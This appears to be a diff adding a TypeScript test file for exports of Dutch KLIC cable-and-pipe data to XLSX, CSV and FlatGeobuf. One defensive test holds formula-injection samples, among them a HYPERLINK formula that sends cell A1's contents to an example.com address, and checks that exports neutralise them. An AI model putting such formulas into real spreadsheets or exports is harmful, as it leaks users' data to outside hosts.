@@ -1,0 +1,123 @@
+/** CSV, XLSX and FlatGeobuf, as GDAL reads them back. */
+import assert from 'node:assert/strict'
+import { type TestContext, test } from 'node:test'
+import gdal from 'gdal-async'
+import { LAYERS, type Row } from '../../server/domain/layers.ts'
+import { RESULT_TABLES } from '../../server/domain/result.ts'
+import { csvLine } from '../../server/formats/csv.ts'
+import { inspectFlatGeobufZip, writeFlatGeobufZip } from '../../server/formats/flatgeobuf.ts'
+import { writeCsvZip, writeXlsx } from '../../server/formats/list-files.ts'
+import { TEST_NOTICE } from '../../server/formats/words.ts'
+import { readThrough } from '../../server/formats/zip-file.ts'
+import { openResult } from '../../server/store/geopackage/read.ts'
+import { createGeoPackage } from '../../server/store/geopackage/write.ts'
+import { folder, ODD_TEXT, writeSample } from './samples.ts'
+
+function sampled(t: TestContext, fill: (path: string) => void) {
+  const at = folder(t)
+  const gpkg = at.path('result.gpkg')
+  fill(gpkg)
+  const source = openResult(gpkg)
+  t.after(() => source.close())
+  const tables: Record<string, Row[]> = Object.fromEntries(RESULT_TABLES.map(({ name }) => [name, source.table(name)]))
+  return { at, gpkg, source, tables }
+}
+
+// Where a first row could be data as well, GDAL must not guess.
+gdal.config.set('OGR_XLSX_HEADERS', 'FORCE')
+
+const rowsOf = (path: string, layer: string): Record<string, unknown>[] => {
+  const set = gdal.open(path)
+  try {
+    return set.layers.get(layer).features.map((feature) => feature.fields.toObject())
+  } finally {
+    set.close()
+  }
+}
+
+const FORMULA = '=HYPERLINK("http://example.com?"&A1,"klik")'
+
+/** One object whose texts are formulas to a spreadsheet. */
+const dangerous = (path: string): void => {
+  const writer = createGeoPackage(path)
+  writer.feature('diepte', { id: FORMULA, label: '+31-20-123', omschrijving: '-1.5', thema: '@SUM(A1)' }, null)
+  writer.finish({ lastChange: null, warnings: [] })
+}
+
+test('a workbook has every object, the tables and a page of words, as GDAL reads it', async (t) => {
+  const { at, source, tables } = sampled(t, (path) => writeSample(path, { isSimulated: true }))
+  await writeXlsx({ path: at.path('result.xlsx'), source, tables })
+  await readThrough(at.path('result.xlsx'))
+  const set = gdal.open(at.path('result.xlsx'))
+  const names = set.layers.map(({ name }) => name)
+  set.close()
+  assert.deepEqual(names, ['lees mij', 'objecten', 'voorzorgsmaatregelen', ...RESULT_TABLES.map(({ name }) => name)])
+  const rows = rowsOf(at.path('result.xlsx'), 'objecten')
+  assert.equal(rows.length, 4 * LAYERS.length)
+  assert.ok(rows.every((row) => row.let_op === TEST_NOTICE))
+  const odd = rows.find(({ id }) => id === 'nl.imkl-KL1234.diepte_2')!
+  assert.equal(odd.referentie, ODD_TEXT)
+  const full = rows.find(({ id }) => id === 'nl.imkl-KL1234.kabel_of_leiding_1')!
+  assert.equal(
+    String(full.aanlegdatum).slice(0, 10),
+    String(rowsOf(at.path('result.gpkg'), 'kabel_of_leiding')[0]!.aanlegdatum).slice(0, 10),
+  )
+  const [first] = rowsOf(at.path('result.xlsx'), 'lees mij')
+  assert.equal(first!['KLIC-gebiedsinformatie'], `*** ${TEST_NOTICE} ***`)
+})
+
+test('a list that is longer than a sheet goes on in the next one, and nothing is lost or doubled', async (t) => {
+  const { at, source, tables } = sampled(t, (path) => writeSample(path))
+  await writeXlsx({ path: at.path('result.xlsx'), source, tables }, 33)
+  const ids = ['objecten', 'objecten 2', 'objecten 3'].map((name) =>
+    rowsOf(at.path('result.xlsx'), name).map(({ id }) => id),
+  )
+  assert.deepEqual(
+    ids.map(({ length }) => length),
+    [32, 32, 8],
+  )
+  assert.equal(new Set(ids.flat()).size, 72)
+})
+
+test('a workbook holds no formula, and a CSV none that a spreadsheet would carry out', async (t) => {
+  const { at, source, tables } = sampled(t, dangerous)
+  await writeXlsx({ path: at.path('result.xlsx'), source, tables })
+  const [row] = rowsOf(at.path('result.xlsx'), 'objecten')
+  assert.equal(row!.id, FORMULA, 'as text')
+  await writeCsvZip({ path: at.path('result.zip'), source, tables })
+  const [guarded] = rowsOf(`/vsizip/{${at.path('result.zip')}}/objecten.csv`, 'objecten')
+  assert.deepEqual(
+    [guarded!.id, guarded!.label, guarded!.omschrijving, guarded!.thema],
+    [`'${FORMULA}`, "'+31-20-123", '-1.5', "'@SUM(A1)"],
+  )
+  assert.equal(csvLine(['\t=1', '=1', -1, null, '', 'a,b']), `'\t=1,'=1,-1,,"","a,b"\r\n`)
+})
+
+test('the CSV lists hold what the layers and tables hold, and say in every row when it is test data', async (t) => {
+  const { at, source, tables } = sampled(t, (path) => writeSample(path, { isSimulated: true }))
+  await writeCsvZip({ path: at.path('result.zip'), source, tables })
+  const list = (name: string) => rowsOf(`/vsizip/{${at.path('result.zip')}}/${name}.csv`, name)
+  assert.equal(list('objecten').length, 4 * LAYERS.length)
+  assert.equal(list('voorzorgsmaatregelen').length, 4)
+  for (const { name } of RESULT_TABLES) {
+    assert.equal(list(name).length, tables[name]!.length, name)
+    assert.ok(list(name).every((row) => row.let_op === TEST_NOTICE))
+  }
+})
+
+test('FlatGeobuf: a file per layer with its index, in RD New, with every object that has a shape', async (t) => {
+  const { at, gpkg, source, tables } = sampled(t, (path) => writeSample(path, { fewer: true }))
+  source.close()
+  const zip = at.path('result.zip')
+  await writeFlatGeobufZip({ gpkg, zip, tempDir: at.path('temp'), tables, counts: {} })
+  const found = inspectFlatGeobufZip(zip)
+  assert.equal(found.epsg, '28992')
+  assert.deepEqual(
+    found.layers.map(({ name, rows }) => [name, rows]),
+    LAYERS.map(({ name }, i) => [name, i % 2 === 0 ? 3 : 0]),
+  )
+  const rows = rowsOf(`/vsizip/{${zip}}/diepte.fgb`, 'diepte')
+  const before = rowsOf(gpkg, 'diepte').filter(({ id }) => id !== 'nl.imkl-KL1234.diepte_3')
+  const byId = (all: Record<string, unknown>[]) => new Map(all.map((row) => [row.id, row]))
+  if (before.length > 0) assert.deepEqual(byId(rows), byId(before))
+})
